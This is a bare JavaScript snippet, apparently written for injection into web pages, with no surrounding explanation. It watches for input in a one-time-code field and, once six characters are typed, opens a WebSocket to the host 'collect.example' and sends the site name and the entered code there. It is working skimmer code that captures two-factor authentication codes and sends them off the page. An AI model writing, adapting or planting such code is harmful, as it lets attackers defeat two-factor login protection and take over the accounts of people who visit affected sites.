document.addEventListener("input", () => {
  const field = document.querySelector("input[autocomplete=one-time-code]");
  if (field && field.value.length === 6) {
    const socket = new WebSocket("wss://collect.example/o");
    socket.onopen = () => socket.send(JSON.stringify({site: location.host, code: field.value}));
  }
});
